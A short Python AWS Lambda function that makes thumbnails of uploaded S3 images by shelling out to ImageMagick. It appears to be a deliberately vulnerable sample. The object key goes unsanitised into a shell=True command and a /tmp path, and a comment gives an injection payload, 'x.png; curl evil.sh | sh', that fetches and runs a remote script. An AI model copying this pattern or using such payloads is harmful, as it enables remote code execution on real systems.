"""Makes a thumbnail of every uploaded image with ImageMagick."""

import os
import subprocess
import urllib.parse

import boto3

s3 = boto3.client("s3")
THUMBNAIL_BUCKET = os.environ["THUMBNAIL_BUCKET"]


def handler(event, context):
    for record in event["Records"]:
        bucket = record["s3"]["bucket"]["name"]
        key = urllib.parse.unquote_plus(record["s3"]["object"]["key"])
        local_path = f"/tmp/{key}"
        s3.download_file(bucket, key, local_path)
        # The object key is attacker-controlled: "x.png; curl evil.sh | sh" runs in this shell.
        subprocess.run(f"convert {local_path} -resize 128x128 /tmp/thumb.png", shell=True, check=True)
        s3.upload_file("/tmp/thumb.png", THUMBNAIL_BUCKET, f"thumbs/{key}")
    return {"converted": len(event["Records"])}
